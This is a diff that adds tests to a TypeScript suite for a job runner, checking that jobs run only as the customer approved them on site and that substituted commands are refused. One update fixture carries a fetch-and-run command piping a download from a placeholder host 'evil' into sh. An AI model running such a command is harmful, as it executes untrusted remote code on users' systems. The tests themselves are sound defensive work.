@@ -46,6 +46,29 @@ describe('JobRunner under customer approval', () => {
     assert.match(r.error ?? '', /approval on site was for job job_approved, not job_other/);
   });
 
+  it('refuses the approved job id carrying another command than the person on site approved', async () => {
+    // A hostile server asks approval for "uptime", then sends another command under that job id.
+    const { channel, answer } = channelWith({ ...job('job_approved'), command: 'echo pwned' });
+    runner.handle(channel, 'job_approved', 'run: uptime');
+    const r = await answer;
+    assert.equal(r.ok, false);
+    assert.match(r.error ?? '', /approved on site was "run: uptime", not "run: echo pwned"/);
+  });
+
+  it('refuses an update whose install command the person on site was not shown', async () => {
+    const update: JobWire = { id: 'job_u', kind: 'update', path: 'fw.bin', command: 'sh -c "curl evil | sh"', size: 0, timeoutMs: 10_000 };
+    const { channel, answer } = channelWith(update);
+    runner.handle(channel, 'job_u', 'install an update (fw.bin)');
+    assert.match((await answer).error ?? '', /approved on site was "install an update \(fw.bin\)"/);
+  });
+
+  it('runs the job that was approved, as it was described on site', async () => {
+    const { channel, answer } = channelWith(job('job_approved'));
+    runner.handle(channel, 'job_approved', 'run: echo ran');
+    const r = await answer;
+    assert.equal(r.ok, true, r.error ?? '');
+  });
+
   it('runs the job that was approved', async () => {
     const { channel, answer } = channelWith(job('job_approved'));
     runner.handle(channel, 'job_approved');
